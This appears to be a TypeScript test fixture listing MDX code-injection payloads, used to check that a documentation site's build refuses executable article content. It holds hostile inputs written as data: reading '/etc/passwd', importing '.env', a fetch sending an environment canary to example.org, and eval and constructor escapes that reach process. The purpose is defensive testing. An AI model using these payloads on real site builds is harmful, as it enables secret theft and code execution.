import { body, type Payload, pairs } from './payload.ts';

/** Statements that would run while the site is built. */
const MODULES = [
  "import { readFileSync } from 'node:fs'",
  "import fs from 'node:fs'",
  "import * as fs from 'node:fs'",
  "import 'node:fs'",
  "import secret from '../../package.json'",
  "import secret from '../../.env?raw'",
  "import x from 'data:text/javascript,process.exit(1)'",
  "import x from 'https://example.org/x.js'",
  'export const secret = process.env.CANARY',
  'export default () => process.exit(1)',
  'export function hidden() { return process.env }',
  "export * from '../../package.json'",
  "export { default } from '../../package.json'",
  'export const frontmatter = { title: "Other" }',
  'export const prerender = false',
  'export const components = { Fact: () => process.env.CANARY }',
];

/** Expressions that would run while the site is built. */
const EXPRESSIONS = [
  'process.env.CANARY',
  'process.exit(1)',
  'globalThis.process.env',
  "await import('node:fs')",
  "(await import('node:fs')).readFileSync('/etc/passwd', 'utf8')",
  'import.meta.env',
  'import.meta.url',
  'import.meta.glob("/**/*")',
  'new Function("return process")()',
  'eval("process.env.CANARY")',
  '(() => { throw new Error() })()',
  'fetch("https://example.org/?" + process.env.CANARY)',
  '`$' + '{process.env.CANARY}`',
  '[..."x"].constructor.constructor("return process")()',
  'props.components',
  'Astro.request',
  '/* a comment */',
  '',
];

/** Where in an article an expression can stand. */
const POSITIONS: readonly (readonly [name: string, put: (code: string) => string])[] = [
  ['block', (code) => `{${code}}`],
  ['running text', (code) => `Words {${code}} go on.`],
  ['heading', (code) => `## Words {${code}}`],
  ['list', (code) => `- One\n  - {${code}}`],
  ['quotation', (code) => `> {${code}}`],
  ['table', (code) => `| A |\n| - |\n| {${code.replaceAll('|', '\\|')}} |`],
  ['emphasis', (code) => `**{${code}}**`],
  ['link text', (code) => `[{${code}}](/wiki/box/)`],
  ['footnote', (code) => `Words.[^a]\n\n[^a]: {${code}}`],
  ['component', (code) => `<Note>{${code}}</Note>`],
  ['attribute', (code) => `<Fact id={${code}} />`],
  ['spread attribute', (code) => `<Fact id="box.width" {...(${code})} />`],
  ['attribute of a frame', (code) => `<Note title={${code}}>Words.</Note>`],
];

export const BUILD_CODE: readonly Payload[] = [
  ...MODULES.map((code) => body(`module code: ${code}`, code)),
  ...MODULES.map((code) => body(`module code below a heading: ${code}`, `## Section\n${code}`)),
  ...pairs(EXPRESSIONS, POSITIONS, (code, [where, put]) =>
    body(`expression, ${where}: ${code}`, put(code)),
  ),
];
